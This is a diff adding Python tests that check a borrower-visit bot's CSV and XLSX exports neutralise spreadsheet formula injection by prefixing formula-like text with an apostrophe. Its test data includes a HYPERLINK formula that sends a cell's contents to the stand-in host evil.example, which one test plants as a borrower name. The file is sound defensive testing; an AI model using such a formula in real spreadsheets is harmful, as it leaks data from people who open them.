@@ -2,14 +2,20 @@
 
 from __future__ import annotations
 
+import asyncio
 import csv
 import io
 import os
 import subprocess
 import sys
+from decimal import Decimal
 from pathlib import Path
 
 from openpyxl import load_workbook
+from sqlalchemy import text
+
+from bot.export import export_csv, export_xlsx, inert
+from storage.db import make_engine
 
 VISITBOT = [sys.executable, "-m", "bot"]
 
@@ -59,3 +65,80 @@ def test_invite_prints_a_deep_link(tmp_path: Path) -> None:
     links = {run(["invite", "B003"], env).strip() for _ in range(2)}
     assert len(links) == 2
     assert all(link.startswith("https://t.me/visit_demo_bot?start=") and len(link) < 90 for link in links)
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
+    "=1+2",
+    "+1",
+    "-1+2",
+    "@SUM(1)",
+    "\t=1+2",
+    "\r=1+2",
+    " =1+2",
+    "＝1+2",
+]
+
+
+def formula_rows() -> tuple[list[str], list[list[object]], list[list[object]]]:
+    """A header and rows where every text cell looks like a formula, next to real numbers."""
+    header = ["visit_id", "borrower_name", "amount", *(f"q{i}" for i in range(len(FORMULAS)))]
+    visits: list[list[object]] = [[7, FORMULAS[0], Decimal("150000.50"), *FORMULAS]]
+    flags: list[list[object]] = [[7, "B001", "=1+2", "f", "high", "", "-1+2", "2026-01-01T00:00:00"]]
+    return header, visits, flags
+
+
+def test_xlsx_text_that_looks_like_a_formula_stays_text() -> None:
+    header, visits, flags = formula_rows()
+    book = load_workbook(io.BytesIO(export_xlsx(header, visits, flags)))
+    row = next(book["visits"].iter_rows(min_row=2))
+    assert (row[0].value, row[0].data_type) == (7, "n")
+    assert row[2].data_type == "n" and float(row[2].value) == 150000.5
+    for cell, original in zip(row[3:], FORMULAS, strict=True):  # (XML reads a carriage return back as \n)
+        assert cell.data_type == "s" and cell.value == "'" + original.replace("\r", "\n")
+    assert row[1].value == "'" + FORMULAS[0]
+    flag_row = next(book["risk_flags"].iter_rows(min_row=2, values_only=True))
+    assert flag_row[0] == 7 and flag_row[2] == "'=1+2" and flag_row[6] == "'-1+2"
+
+
+def test_csv_text_that_looks_like_a_formula_stays_text() -> None:
+    header, visits, _ = formula_rows()
+    table = list(csv.reader(io.StringIO(export_csv(header, visits).decode("utf-8-sig"), newline="")))
+    assert table[1][0] == "7" and table[1][2] == "150000.50"
+    assert table[1][3:] == ["'" + f for f in FORMULAS]
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in table[1])
+
+
+def test_plain_text_is_untouched_and_control_characters_do_not_break_xlsx() -> None:
+    assert [inert(v) for v in ("好", "B001", "50000", 3, None)] == ["好", "B001", "50000", 3, None]
+    book = load_workbook(io.BytesIO(export_xlsx(["a"], [["响铃\x07字符"]], [])))
+    assert book["visits"]["A2"].value == "响铃字符"
+
+
+async def _plant(url: str) -> None:
+    """A borrower whose name is a live formula."""
+    engine = make_engine(url)
+    async with engine.begin() as conn:
+        await conn.execute(text("UPDATE borrowers SET name = :n WHERE code = 'B001'"), {"n": FORMULAS[0]})
+    await engine.dispose()
+
+
+def test_export_of_a_visit_with_formula_like_answers_round_trips_as_text(tmp_path: Path) -> None:
+    url = f"sqlite+aiosqlite:///{tmp_path / 'f.db'}"
+    env = dict(os.environ, VISITBOT_DATABASE_URL=url)
+    run(["demo", "load"], env)
+    asyncio.run(_plant(url))
+    answers = ["1", "1", "好", "没有", "否", "按约定用途使用", "/skip", "=1+2", "/note @SUM(1)", "/quit"]
+    run(["console", "-b", "B001"], env, "\n".join(answers) + "\n")
+    xlsx, table = tmp_path / "f.xlsx", tmp_path / "f.csv"
+    run(["export", "-o", str(xlsx)], env)
+    run(["export", "-o", str(table)], env)
+    sheet = load_workbook(xlsx)["visits"]
+    header = [c.value for c in sheet[1]]
+    cells = {name: cell for name, cell in zip(header, sheet[2], strict=True)}
+    assert cells["visit_id"].value == 1 and cells["visit_id"].data_type == "n"
+    assert cells["borrower_name"].data_type == "s" and cells["borrower_name"].value == "'" + FORMULAS[0]
+    assert (cells["needs"].value, cells["needs"].data_type) == ("'=1+2", "s")
+    assert (cells["remark"].value, cells["remark"].data_type) == ("'@SUM(1)", "s")
+    rows = list(csv.DictReader(io.StringIO(table.read_text(encoding="utf-8-sig"), newline="")))
+    assert rows[0]["borrower_name"] == "'" + FORMULAS[0] and "'=1+2" in rows[0].values()
